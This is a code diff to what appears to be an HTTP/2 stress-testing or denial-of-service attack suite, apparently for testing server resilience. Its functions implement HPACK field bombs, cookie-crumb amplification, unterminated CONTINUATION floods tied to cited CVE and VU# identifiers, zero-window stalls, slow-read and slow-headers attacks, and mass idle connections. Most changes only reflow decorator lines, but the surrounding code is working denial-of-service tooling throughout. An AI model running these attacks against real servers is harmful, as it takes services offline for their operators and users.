@@ -23,8 +23,10 @@ def answered(run, each, kind, count=50):
         while channel is not None and run.on() and channel.send(make(asked)):
             asked += 1
             end = time.monotonic() + 1
-            while channel.heard.get(kind, 0) < asked * count and not channel.over and time.monotonic() < end:
+            while channel.heard.get(kind, 0) < asked * count and time.monotonic() < end:
                 channel.take(0.001)
+                if channel.over:
+                    break
         if channel is not None:
             channel.close()
         run.pause(0.02)
@@ -55,7 +57,8 @@ def malformed(run):
     answered(run, lambda s: headers(s, block), h2.RST_STREAM)
 
 
-@attack("h2-field-bomb", "h2", "F3, H2-04", "requests with 147,000 one-byte references to a field of 3.9 KB")
+@attack("h2-field-bomb", "h2", "F3, H2-04",
+        "requests with 147,000 one-byte references to a field of 3.9 KB")
 def field_bomb(run):
     def batch(n):
         block = request() + (inserted(b"x", b"a" * 3900) if n == 0 else b"")
@@ -72,7 +75,8 @@ def trailer_bomb(run):
     flood(run, batch)
 
 
-@attack("h2-cookie-crumbs", "h2", "H2-04, CVE-2026-47774", "requests with 14,000 references to a cookie's crumb")
+@attack("h2-cookie-crumbs", "h2", "H2-04, CVE-2026-47774",
+        "requests with 14,000 references to a cookie's crumb")
 def cookie_crumbs(run):
     def batch(n):
         block = request() + (inserted(b"cookie", b"a=b") if n == 0 else b"")
@@ -86,7 +90,8 @@ def large_heads(run):
     answered(run, lambda s: headers(s, block), h2.HEADERS)
 
 
-@attack("h2-continuation", "h2", "H2-03, VU#421644", "a field section of CONTINUATION without end, and empty ones")
+@attack("h2-continuation", "h2", "H2-03, VU#421644",
+        "a field section of CONTINUATION without end, and empty ones")
 def continuation(run):
     flood(run, lambda n: (frame(h2.HEADERS, END_STREAM, 1, request()) if n == 0 else b"")
           + frame(h2.CONTINUATION, 0, 1) * 500)
@@ -119,7 +124,8 @@ def unread_pings(run):
     flood(run, lambda n: piece, reads=False)
 
 
-@attack("h2-unread-responses", "h2", "H2-08", "requests for what is not there, and nothing is read, on 20 connections")
+@attack("h2-unread-responses", "h2", "H2-08",
+        "requests for what is not there, and nothing is read, on 20 connections")
 def unread_responses(run):
     batch, count = per_stream(lambda s: headers(s, request(b"/not/there")), 50), 0
     channels = run.many(20, lambda: h2.connect(run, WIDE_OPEN, 4096, GIB))
@@ -153,12 +159,14 @@ zero_window("h2-zero-window-fields", "F2, H2-05", "the same, each with 32 KiB of
             lambda i: kept(b"x", b"a" * 3900)(i) + indexed(62) * 7)
 zero_window("h2-zero-window-ranges", "F2, H2-05", "the same, each for 16 ranges",
             kept(b"range", SIXTEEN_RANGES))
-zero_window("h2-zero-window-both", "F2, H2-05", "the same, each with 32 KiB of fields and for 16 ranges",
+zero_window("h2-zero-window-both", "F2, H2-05",
+            "the same, each with 32 KiB of fields and for 16 ranges",
             lambda i: (inserted(b"range", SIXTEEN_RANGES) + inserted(b"x", b"a" * 3700)
                        + indexed(62) * 7) if i == 0 else indexed(63) + indexed(62) * 8)
 
 
-@attack("h2-slow-read", "h2", "H1-17, H2-05", "40 connections ask for 16 MiB ten times each and read nothing")
+@attack("h2-slow-read", "h2", "H1-17, H2-05",
+        "40 connections ask for 16 MiB ten times each and read nothing")
 def slow_read(run):
     def connect():
         channel = h2.connect(run, WIDE_OPEN, 4096, GIB)
@@ -181,7 +189,8 @@ def tiny_windows(run):
     run.drip(channels, lambda n: piece, every=0.02)
 
 
-@attack("h2-slow-headers", "h2", "H1-15, H2-15", "500 connections each begin a field section and never end it")
+@attack("h2-slow-headers", "h2", "H1-15, H2-15",
+        "500 connections each begin a field section and never end it")
 def slow_headers(run):
     def connect():
         channel = h2.connect(run)
@@ -191,6 +200,7 @@ def slow_headers(run):
     run.hold(run.many(500, connect))
 
 
-@attack("h2-idle", "h2", "H1-18, P-01", "1,000 connections of one address that say nothing after SETTINGS")
+@attack("h2-idle", "h2", "H1-18, P-01",
+        "1,000 connections of one address that say nothing after SETTINGS")
 def idle(run):
     run.hold(run.many(1000, lambda: h2.connect(run)))
